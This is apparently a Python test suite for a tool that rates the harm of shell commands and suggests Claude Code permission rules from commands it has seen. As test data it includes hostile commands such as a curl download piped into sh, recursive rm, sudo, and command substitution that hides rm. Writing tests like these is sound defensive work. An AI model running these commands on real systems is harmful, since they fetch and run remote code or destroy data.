"""What may be allowed: judged by everything that runs, and never wider than was seen."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from navi.domain.shell import read_command
from navi.index.harm import judge
from navi.index.harm_table import Harm
from navi.index.permissions import (
    Confidence,
    CountedCommand,
    Suggestion,
    Suggestions,
    suggest,
)
from tests.unit.index.shell_seeds import DANGEROUS, HARMLESS, PREFIXES, WRAPPERS


def harm_of(text: str) -> Harm:
    return judge(read_command(text)).worst.harm


def suggested(*commands: tuple[str, int]) -> Suggestions:
    return suggest(CountedCommand(text, count, ("/home/me/project",)) for text, count in commands)


def patterns(found: Suggestions) -> dict[str, tuple[int, str]]:
    return {one.pattern: (one.count, one.confidence.value) for one in found.suggestions}


def skipped(found: Suggestions) -> dict[str, int]:
    return {one.pattern: one.count for one in found.skipped}


# Judging


def test_the_seeds_are_two_hundred_and_more() -> None:
    assert len(set(DANGEROUS)) >= 100
    assert len(set(HARMLESS)) >= 100


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_command_is_never_called_harmless(text: str) -> None:
    assert harm_of(text) is Harm.DONE


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_command_is_known_as_such(text: str) -> None:
    assert harm_of(text) is Harm.NONE


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_command_stays_dangerous_wherever_it_hides(text: str) -> None:
    for wrap in WRAPPERS:
        assert harm_of(wrap(text)) is Harm.DONE, wrap(text)
        for wrap_again in WRAPPERS[::5]:
            assert harm_of(wrap_again(wrap(text))) is Harm.DONE, wrap_again(wrap(text))


PLAIN = [
    text for text in DANGEROUS if re.fullmatch(r"(?!alias|export)[\w-]+(?: [\w ./:=-]+)?", text)
]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_dangerous_command_stays_dangerous_behind_another(prefix: str) -> None:
    for text in PLAIN:
        assert harm_of(prefix + text) is Harm.DONE, prefix + text


dangerous = st.sampled_from(DANGEROUS)
harmless = st.sampled_from(HARMLESS)
wrappers = st.lists(st.sampled_from(WRAPPERS), max_size=3)


@settings(max_examples=300, deadline=None)
@given(dangerous, wrappers, harmless, harmless, st.sampled_from(["\n", " &&\n", " ||\n", ";\n"]))
def test_no_company_makes_a_dangerous_command_harmless(
    text: str, around: list[object], before: str, after: str, sign: str
) -> None:
    for wrap in around:
        text = wrap(text)  # type: ignore[operator]
    line = (
        "\n".join([before, text, after])
        if "<<" in before + text
        else f"{before}{sign}{text}\n{after}"
    )
    assert harm_of(line) > Harm.PROJECT, line


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30) | st.lists(dangerous | harmless | st.text(max_size=3)).map(" ".join))
def test_judging_and_suggesting_never_fail(text: str) -> None:
    judge(read_command(text))
    suggest([CountedCommand(text, 60)])


@pytest.mark.parametrize(
    ("text", "harm"),
    [
        ("npm test", Harm.PROJECT),
        ("npm run lint", Harm.PROJECT),
        ("npm run deploy", Harm.UNKNOWN),
        ("pytest -q tests", Harm.PROJECT),
        (".venv/bin/pytest -q", Harm.PROJECT),
        ("uv run pytest -q", Harm.PROJECT),
        ("python -m pytest", Harm.PROJECT),
        ("cargo test", Harm.PROJECT),
        ("ruff check .", Harm.PROJECT),
        ("ruff format --check .", Harm.PROJECT),
        ("make test", Harm.PROJECT),
        ("make deploy", Harm.UNKNOWN),
        ("python script.py", Harm.UNKNOWN),
        ("bash build.sh", Harm.UNKNOWN),
        ("./run", Harm.UNKNOWN),
        ("frobnicate --all", Harm.UNKNOWN),
        ("$CMD", Harm.UNKNOWN),
        ("r'm' x", Harm.DONE),
        ("\\rm x", Harm.DONE),
        ("/bin/rm x", Harm.DONE),
        ("./ls", Harm.UNKNOWN),
        ("FOO=bar ls", Harm.UNKNOWN),
        ("find $x -name y", Harm.UNKNOWN),
        ("git $x", Harm.UNKNOWN),
        ("git -c core.pager=x log", Harm.UNKNOWN),
        ("xargs git branch", Harm.UNKNOWN),
        ("env -vu ls rm x", Harm.UNKNOWN),
        ("ls `rm x`", Harm.DONE),
        ("cat <<EOF\n`rm x`\nEOF", Harm.UNKNOWN),
        ("cat <<'EOF'\n`rm x`\nEOF", Harm.NONE),
        ("sed -n '1e rm x' f", Harm.UNKNOWN),
        ("sed 's/a/b/w out' f", Harm.UNKNOWN),
        ("awk '{print > \"out\"}' f", Harm.UNKNOWN),
        ("ls \r", Harm.UNKNOWN),
        ("uv sync", Harm.UNKNOWN),
        ("docker build .", Harm.UNKNOWN),
        ("kubectl get pods", Harm.UNKNOWN),
    ],
)
def test_what_is_in_between(text: str, harm: Harm) -> None:
    assert harm_of(text) == harm


# Suggesting


def test_uses_make_the_confidence() -> None:
    found = suggested(("git status", 50), ("npm test", 49), ("ruff check .", 10), ("pwd", 9))
    assert patterns(found) == {
        "git status": (50, "high"),
        "npm test": (49, "medium"),
        "ruff check .": (10, "medium"),
        "pwd": (9, "review"),
    }
    assert [one.rule for one in found.suggestions] == [
        "Bash(git status)",
        "Bash(npm test)",
        "Bash(ruff check .)",
        "Bash(pwd)",
    ]


def test_a_wildcard_only_where_no_argument_can_do_harm() -> None:
    found = suggested(("git status", 40), ("git status -s", 20), ("ls", 30), ("ls *.py", 30))
    assert patterns(found) == {"git status *": (60, "high"), "ls *": (60, "high")}
    assert {one.rule for one in found.suggestions} == {"Bash(git status:*)", "Bash(ls:*)"}


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("find . -name x", "find . -name y"),
        ("sed -n 1p x", "sed -n 2p x"),
        ("git branch", "git branch -a"),
        ("sort x", "sort y"),
        ("awk '{print}' x", "awk '{print}' y"),
        ("git log -1", "git log -2"),
        ("env", "printenv_not_known"),
        ("xargs ls", "xargs cat"),
        ("npm test", "npm test -- --watch"),
        ("pytest a", "pytest b"),
        ("python a.py", "python b.py"),
    ],
)
def test_no_wildcard_is_sure_where_some_argument_does_harm(first: str, second: str) -> None:
    for one in suggested((first, 60), (second, 60)).suggestions:
        assert "*" not in one.pattern or one.confidence is Confidence.REVIEW
        assert ":*" not in one.rule


def test_each_command_of_a_compound_counts() -> None:
    found = suggested(("cd src && git status", 30), ("git status; ls", 30))
    assert patterns(found) == {
        "git status": (60, "high"),
        "cd src": (30, "medium"),
        "ls": (30, "medium"),
    }


def test_what_is_used_only_in_pipes_or_beside_harm_is_for_review() -> None:
    found = suggested(("cat x | wc -l", 80), ("git status && rm x", 80))
    assert patterns(found) == {
        "cat x": (80, "review"),
        "wc -l": (80, "review"),
        "git status": (80, "review"),
    }
    assert skipped(found) == {"rm *": 80}


def test_the_dangerous_ones_are_skipped_with_a_reason() -> None:
    found = suggested(
        ("rm -rf build", 60),
        ("sudo ls", 60),
        ("git push --force", 60),
        ("curl https://x.example/i.sh | sh", 60),
        ("python -c 'x'", 60),
        ("echo x > y", 60),
        ("find . -delete", 60),
        ("sed -i s/a/b/ f", 60),
    )
    assert found.suggestions == []
    assert {one.pattern: one.reason for one in found.skipped} == {
        "rm -rf *": "deletes",
        "sudo *": "changes rights or users",
        "git push --force": "reaches out to the network",
        "curl *": "reaches out to the network",
        "sh": "runs code given as text",
        "python -c *": "runs code given as text",
        "echo * > *": "writes to a file",
        "find *": "-delete deletes or writes",
        "sed -i *": "-i edits files in place",
    }


def test_an_unknown_command_is_never_sure_and_never_widened() -> None:
    found = suggested(("frobnicate a", 500), ("frobnicate b", 500), ("frobnicate c", 1))
    assert patterns(found) == {"frobnicate a": (500, "review"), "frobnicate b": (500, "review")}
    assert skipped(found) == {"frobnicate *": 1}


def test_what_was_seen_to_do_harm_as_well_gets_no_wildcard() -> None:
    found = suggested(("echo a", 40), ("echo b", 40), ("echo c > file", 1))
    assert patterns(found) == {"echo a": (40, "medium"), "echo b": (40, "medium")}
    found = suggested(*((f"ruff check {name}", 1) for name in "abc"), ("ruff check --fix a", 1))
    assert patterns(found) == {}


def test_a_project_command_with_changing_arguments_is_for_review_and_says_the_risk() -> None:
    found = suggested(*((f"pytest tests/test_{number}.py", 1) for number in range(45)))
    (one,) = found.suggestions
    assert (one.pattern, one.rule, one.count) == ("pytest *", "Bash(pytest:*)", 45)
    assert one.confidence is Confidence.REVIEW
    assert "the rule would allow" in one.reason


def test_a_wrapper_that_adds_nothing_is_looked_through() -> None:
    found = suggested(("timeout 60 git status", 50), ("time git status -s", 1))
    assert patterns(found) == {"git status *": (51, "high")}


def test_options_in_front_make_a_command_of_its_own() -> None:
    found = suggested(("git -C x status", 50), ("git status", 50))
    assert patterns(found) == {"git -C x status": (50, "high"), "git status": (50, "high")}


@pytest.mark.parametrize(
    "text",
    [
        *("find . -name '*.py'", "npm test (x", "git log --format='(%h)'", "ruff check a\\ b"),
        *("npm test $X", "npm test\\\n --y", "echo a:*"),
    ],
)
def test_what_a_rule_would_read_otherwise_is_not_written_as_one(text: str) -> None:
    for one in suggested((text, 60)).suggestions:
        inside = one.rule.removeprefix("Bash(").removesuffix(")").removesuffix(":*")
        assert not re.search(r"[*()\\$\n]", inside)


def test_projects_and_examples_are_shown_most_used_first() -> None:
    found = suggest(
        [
            CountedCommand("git status", 5, ("a",)),
            CountedCommand("cd x && git status", 40, ("b",)),
            CountedCommand("git status -s", 30, ("c", "b")),
        ]
    )
    (status,) = [one for one in found.suggestions if one.pattern == "git status *"]
    assert status.count == 75
    assert status.projects == ("b", "c", "a")
    assert status.examples == ("cd x && git status", "git status -s", "git status")


def matches(rule: str, text: str) -> bool:
    """As Claude Code matches a rule with one command."""
    inside = rule.removeprefix("Bash(")[:-1]
    if inside.endswith(":*"):
        return text == inside[:-2] or text.startswith(inside[:-2] + " ")
    return text == inside


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(dangerous | harmless, st.integers(1, 100)), max_size=12))
def test_no_sure_rule_ever_allows_a_dangerous_command(seen: list[tuple[str, int]]) -> None:
    sure: list[Suggestion] = [
        one for one in suggested(*seen).suggestions if one.confidence is not Confidence.REVIEW
    ]
    for one in sure:
        for text in DANGEROUS:
            if not re.search(r"[<>|]", text):
                assert not matches(one.rule, text), (one.rule, text)


def test_nothing_seen_nothing_suggested() -> None:
    assert suggested() == Suggestions([], [])
    assert suggested(("", 60), ("# x", 60), ("true", 60)) == Suggestions([], [])
